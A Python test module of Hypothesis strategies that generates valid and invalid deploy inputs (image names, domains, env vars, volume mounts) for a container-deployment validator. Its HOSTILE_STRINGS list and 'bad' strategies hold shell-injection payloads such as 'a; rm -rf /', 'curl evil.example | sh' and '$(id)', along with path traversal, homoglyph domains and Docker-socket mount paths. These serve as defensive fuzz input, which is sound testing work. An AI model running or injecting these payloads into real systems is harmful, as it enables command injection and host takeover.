"""Hypothesis strategies mirroring the constrained types of ``berth.core.types``.

Hypothesis does not read ``msgspec.Meta``, so each rule of SPEC.md is spelled
out here once more, independently of the regexes in the core: a strategy for
values the rule must accept and, where useful, one for values it must refuse.
"""

from __future__ import annotations

import posixpath
import string
from typing import Any

from hypothesis import strategies as st

__all__ = [
    "DOCKER_SOCKET_SPELLINGS",
    "HOSTILE_STRINGS",
    "SOCKET_PATHS",
    "SYSTEM_PATHS",
    "absolute_paths",
    "app_names",
    "bad_app_names",
    "bad_domains",
    "bad_env_keys",
    "bad_images",
    "bad_ports",
    "bad_volumes",
    "deploy_bodies",
    "docker_socket_volumes",
    "domains",
    "env_keys",
    "env_maps",
    "env_values",
    "half",
    "host_path_spellings",
    "images",
    "non_strings",
    "ports",
    "uuid_texts",
    "volumes",
]

LOWER_ALNUM = string.ascii_lowercase + string.digits
ALNUM = string.ascii_letters + string.digits

#: Strings that have broken someone's parser or shell somewhere.
HOSTILE_STRINGS = [
    "$(reboot)",
    "`id`",
    "${HOME}",
    "a; rm -rf /",
    "a && curl evil.example | sh",
    "a|b",
    "a\nb",
    "a\r\nb",
    "line\u2028sep",
    "\t",
    "'",
    '"',
    "\\",
    "--privileged",
    "-v /:/host",
    "../../etc/passwd",
    "%00",
    "\u202eevil",  # right-to-left override
    "\u0430pp",  # Cyrillic a
    "ex\u0430mple.com",  # Cyrillic a in a domain
    "\uff4e\uff47\uff49\uff4e\uff58",  # fullwidth
    "\u200b",  # zero-width space
    "🚀",
    "a" * 10_000,
]

# --- scalars -----------------------------------------------------------------------

non_strings: st.SearchStrategy[Any] = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(),
    st.floats(allow_nan=False),
    st.lists(st.integers(), max_size=2),
    st.dictionaries(st.text(max_size=3), st.text(max_size=3), max_size=2),
)

ports = st.integers(min_value=1, max_value=65535)

bad_ports: st.SearchStrategy[Any] = st.one_of(
    st.integers(max_value=0),
    st.integers(min_value=65536),
    st.booleans(),
    st.floats(allow_nan=False),
    st.sampled_from(["80", "3000", "", "0x50", "80.0"]),
    st.none(),
    st.lists(st.integers(1, 10), max_size=1),
)

uuid_texts = st.builds(
    lambda u, upper: str(u).upper() if upper else str(u), st.uuids(), st.booleans()
)


def half(valid: st.SearchStrategy[Any], other: st.SearchStrategy[Any]) -> st.SearchStrategy[Any]:
    """Draw from ``valid`` about half the time, so a filtering property still sees both."""
    return st.booleans().flatmap(lambda pick: valid if pick else other)


def _text(alphabet: str, min_size: int, max_size: int) -> st.SearchStrategy[str]:
    return st.text(alphabet=st.sampled_from(alphabet), min_size=min_size, max_size=max_size)


# Any character a JSON string can carry except NUL (lone surrogates cannot be UTF-8).
_ANY_CHAR = st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00")

# --- app names ---------------------------------------------------------------------


@st.composite
def app_names(draw: st.DrawFn) -> str:
    """1-100 characters without NUL that keep at least two ASCII letters/digits.

    Anything else is fair: punctuation, spaces, Unicode; the two kept characters
    guarantee the sanitized name has at least two characters.
    """
    filler = draw(st.text(alphabet=_ANY_CHAR, max_size=40))
    keep = draw(st.lists(st.sampled_from(ALNUM), min_size=2, max_size=4))
    chars = list(filler)
    for c in keep:
        chars.insert(draw(st.integers(0, len(chars))), c)
    return "".join(chars)


bad_app_names: st.SearchStrategy[Any] = st.one_of(
    st.just(""),
    st.text(alphabet=ALNUM, min_size=101, max_size=140),
    st.builds(
        lambda a, b: a + "\x00" + b, st.text(ALNUM, min_size=2, max_size=5), st.text(max_size=5)
    ),
    # nothing (or one character) survives sanitizing
    st.text(alphabet=st.sampled_from("-._ !@#$%^&*()/\\日本語éü\n\t"), min_size=1, max_size=20),
    st.builds(
        lambda c, pad: pad + c + pad,
        st.sampled_from(ALNUM),
        st.text(alphabet=st.sampled_from("-._ "), max_size=5),
    ),
    non_strings.filter(lambda v: not isinstance(v, str)),
)

# --- images ------------------------------------------------------------------------

_domain_component = st.from_regex(r"[a-zA-Z0-9](?:[a-zA-Z0-9-]{0,10}[a-zA-Z0-9])?", fullmatch=True)
_registry = st.builds(
    lambda parts, port: ".".join(parts) + (f":{port}" if port is not None else ""),
    st.lists(_domain_component, min_size=1, max_size=3),
    st.none() | st.integers(1, 65535),
)
_path_component = st.from_regex(
    r"[a-z0-9]{1,8}(?:(?:\.|_|__|-{1,3})[a-z0-9]{1,8}){0,2}", fullmatch=True
)
_tag = st.from_regex(r"[A-Za-z0-9_][A-Za-z0-9_.-]{0,30}", fullmatch=True) | st.from_regex(
    r"[A-Za-z0-9_][A-Za-z0-9_.-]{127}", fullmatch=True
)
_digest = st.from_regex(r"sha256:[a-f0-9]{64}", fullmatch=True)


@st.composite
def images(draw: st.DrawFn) -> str:
    """``[registry[:port]/]path[/path...]:tag[@sha256:digest]``."""
    registry = draw(st.none() | _registry)
    path = "/".join(draw(st.lists(_path_component, min_size=1, max_size=3)))
    repository = f"{registry}/{path}" if registry else path
    digest = draw(st.none() | _digest)
    return f"{repository}:{draw(_tag)}" + (f"@{digest}" if digest else "")


bad_images: st.SearchStrategy[Any] = st.one_of(
    # no tag: never an implicit latest
    st.builds(lambda i: i.split("@", 1)[0].rsplit(":", 1)[0], images()).filter(
        lambda s: ":" not in s.rsplit("/", 1)[-1]
    ),
    # digest without a tag
    st.builds(lambda i, d: i.split("@", 1)[0].rsplit(":", 1)[0] + "@" + d, images(), _digest),
    # uppercase in the path, spaces, shell characters, trailing newline
    st.builds(lambda i: "registry.example/X" + i.split("/")[-1], images()),
    st.builds(lambda i, h: i + h, images(), st.sampled_from(["\n", " ", ";id", "$(id)", "`id`"])),
    st.builds(lambda i, h: h + i, images(), st.sampled_from(["-", " ", "/", ":"])),
    st.sampled_from(["", ":", "nginx:", ":latest", "nginx:-1", "nginx@sha256:abc", "a" * 600]),
    non_strings.filter(lambda v: not isinstance(v, str)),
)

# --- domains -----------------------------------------------------------------------

_label = st.from_regex(r"[a-zA-Z0-9](?:[a-zA-Z0-9-]{0,61}[a-zA-Z0-9])?", fullmatch=True)

domains = st.lists(_label, min_size=2, max_size=4).map(".".join).filter(lambda d: len(d) <= 253)

bad_domains: st.SearchStrategy[Any] = st.one_of(
    _label,  # one label only
    st.builds(lambda d: "-" + d, domains),
    st.builds(lambda d: d.replace(".", "-.", 1), domains),
    st.builds(lambda d: d.replace(".", "..", 1), domains),
    st.builds(lambda d: d + ".", domains),  # trailing dot
    st.builds(lambda d, h: d + h, domains, st.sampled_from(["\n", " ", "_x", "/x", ":80"])),
    st.builds(lambda d: "a" * 64 + "." + d, domains),  # a 64-character label
    st.just(".".join(["a" * 63] * 4)),  # 255 characters
    st.sampled_from(["", ".", "localhost", "ex\u0430mple.com", "bücher.de", "*.example.com"]),
    non_strings.filter(lambda v: not isinstance(v, str)),
)

# --- env ---------------------------------------------------------------------------

env_keys = st.from_regex(r"[A-Za-z_][A-Za-z0-9_]{0,20}", fullmatch=True) | st.from_regex(
    r"[A-Za-z_][A-Za-z0-9_]{255}", fullmatch=True
)

bad_env_keys = st.one_of(
    st.just(""),
    st.builds(lambda d, k: d + k, st.sampled_from(string.digits), env_keys),
    st.builds(
        lambda k, h: k + h,
        env_keys,
        st.sampled_from(["-x", " ", "=", ".", "\n", "$", "é", "\x00"]),
    ),
    st.just("A" * 257),
)

_SHELLISH = [
    "'",
    '"',
    "$",
    "`",
    "$(id)",
    "${X}",
    "\\",
    "\n",
    "\r\n",
    "\t",
    "#",
    ";",
    "|",
    "é",
    "🚀",
]

env_values = st.one_of(
    st.text(alphabet=_ANY_CHAR, max_size=60),
    st.lists(st.sampled_from(_SHELLISH) | st.text(alphabet=_ANY_CHAR, max_size=3), max_size=15).map(
        "".join
    ),
    st.sampled_from(["", "x" * (32 * 1024), "é" * (16 * 1024), "🚀" * (8 * 1024)]),
)

env_maps = st.dictionaries(env_keys, env_values, max_size=5)

# --- volumes -----------------------------------------------------------------------

_segment = _text(string.ascii_letters + string.digits + "._@+-", 1, 8).filter(lambda s: s != "..")
DOCKER_SOCKET_SPELLINGS = [
    "/var/run/docker.sock",
    "/run/docker.sock",
    "/var/run//docker.sock",
    "/run/./docker.sock",
    "//var/run/docker.sock",
    "///run/docker.sock",
    "/var/./run/docker.sock/",
    "/var/run/./docker.sock/.",
    "/var/run",
    "/var/run/",
    "/run",
    "/var",
    "//var",
    "/./run/.",
]


def _normalize(path: str) -> str:
    norm = posixpath.normpath(path)
    return "/" + norm.lstrip("/") if norm.startswith("/") else norm


#: The host paths refused on every server (issue 21, finding 2): each, what lies under it,
#: and every directory that holds one.
SYSTEM_PATHS = [
    "/proc",
    "/sys",
    "/dev",
    "/boot",
    "/etc",
    "/run",
    "/var/run",
    "/var/lib/docker",
    "/var/lib/containerd",
]
#: Docker's and containerd's sockets where they may live besides /run and /var/run.
SOCKET_PATHS = [
    "/home/ada/.docker/desktop/docker.sock",
    "/srv/docker.sock",
    "/opt/containerd/containerd.sock",
    "/srv/x/docker-1000.sock",
]


def _within(path: str, other: str) -> bool:
    """``path`` is ``other``, under it, or holds it (both normalized, absolute)."""
    a, b = path.rstrip("/").split("/"), other.rstrip("/").split("/")
    shorter = min(len(a), len(b))
    return a[:shorter] == b[:shorter]


def _is_forbidden_host(path: str) -> bool:
    if not path.startswith("/"):
        return False
    norm = _normalize(path)
    if norm == "/":
        return True
    if any(
        seg.endswith(".sock") and seg.startswith(("docker", "containerd"))
        for seg in norm.split("/")
    ):
        return True
    return any(_within(norm, refused) for refused in SYSTEM_PATHS)


_host_paths = st.one_of(
    st.lists(_segment, min_size=1, max_size=4).map(lambda s: "/" + "/".join(s)),
    st.lists(_segment, min_size=1, max_size=4).map("/".join),
).filter(lambda p: not _is_forbidden_host(p))

#: Absolute, normalized paths of one to four segments (``/a``, ``/a/b``...).
absolute_paths = st.lists(_segment.filter(lambda s: s != "."), min_size=1, max_size=4).map(
    lambda s: "/" + "/".join(s)
)

_container_paths = (
    st.lists(_segment, min_size=1, max_size=4)
    .map(lambda s: "/" + "/".join(s))
    .filter(lambda p: _normalize(p) != "/")
)


@st.composite
def volumes(draw: st.DrawFn) -> str:
    """``host:container[:ro|:rw]`` that the rules accept."""
    mode = draw(st.sampled_from(["", ":ro", ":rw"]))
    return f"{draw(_host_paths)}:{draw(_container_paths)}{mode}"


def container_path_of(volume: str) -> str:
    return _normalize(volume.split(":")[1])


@st.composite
def host_path_spellings(draw: st.DrawFn, path: str) -> str:
    """``path`` (absolute, normalized) spelt another way Linux reads alike: doubled
    slashes, ``.`` segments, a trailing slash."""
    out = ""
    for segment in path.strip("/").split("/"):
        out += "/" * draw(st.integers(1, 3)) + draw(st.sampled_from(["", "./", "././"])) + segment
    return out + draw(st.sampled_from(["", "/", "/.", "//"]))


docker_socket_volumes = st.builds(
    lambda h, c, m: f"{h}:{c}{m}",
    st.sampled_from([*DOCKER_SOCKET_SPELLINGS, "/", "//", "/.", "/./"]),
    _container_paths,
    st.sampled_from(["", ":ro", ":rw"]),
)

bad_volumes: st.SearchStrategy[Any] = st.one_of(
    docker_socket_volumes,
    # a `..` segment anywhere
    st.builds(
        lambda v, where: v.replace(":", "/..:", 1) if where == 0 else v.replace(":/", ":/../", 1),
        volumes(),
        st.integers(0, 1),
    ),
    st.builds(lambda h: f"{h}:relative", _host_paths),  # container path relative
    st.builds(lambda v: v + ":rx", volumes().filter(lambda v: v.count(":") == 1)),
    st.builds(
        lambda v, c: v.replace(":", c + ":", 1), volumes(), st.sampled_from(" $`;|\n\\\"'*é")
    ),
    st.sampled_from(["", ":", ":/x", "/x:", "/x", "/x:/y:ro:rw", "/x:/", "/x://", "/x:/.."]),
    non_strings.filter(lambda v: not isinstance(v, str)),
)

# --- whole bodies ------------------------------------------------------------------


@st.composite
def deploy_bodies(draw: st.DrawFn) -> dict[str, Any]:
    """A JSON deploy body that parse_deploy must accept."""
    body: dict[str, Any] = {
        "serverId": draw(uuid_texts),
        "name": draw(app_names()),
        "image": draw(images()),
    }
    if draw(st.booleans()):
        body["port"] = draw(ports)
    if draw(st.booleans()):
        body["domain"] = draw(st.none() | domains)
    if draw(st.booleans()):
        body["env"] = draw(st.none() | env_maps)
    if draw(st.booleans()):
        body["volumes"] = draw(
            st.none() | st.lists(volumes(), max_size=4, unique_by=container_path_of)
        )
    return body
